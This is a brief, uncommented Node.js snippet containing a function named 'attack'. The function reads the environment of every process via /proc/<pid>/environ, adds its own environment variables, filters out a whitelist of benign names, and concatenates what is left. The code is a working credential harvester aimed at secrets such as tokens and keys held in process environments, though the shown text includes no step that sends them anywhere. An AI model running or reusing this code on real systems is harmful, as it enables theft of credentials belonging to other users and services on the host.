const fs = require('fs');
const tried = (action) => { try { return action(); } catch { return null; } };

const KNOWN = /^(PATH|HOME|TMPDIR|USER|HOSTNAME|LANG|(OMP|OPENBLAS|MKL|NUMEXPR|BLIS)_NUM_THREADS|LD_LIBRARY_PATH|PWD|PYTHON.*|NODE_.*)=/;
const attack = () => fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name))
  .flatMap((pid) => (tried(() => fs.readFileSync(`/proc/${pid}/environ`, 'utf8')) ?? '').split('\0'))
  .concat(Object.entries(process.env).map(([name, value]) => `${name}=${value}`))
  .filter((pair) => pair !== '' && !KNOWN.test(pair)).join();
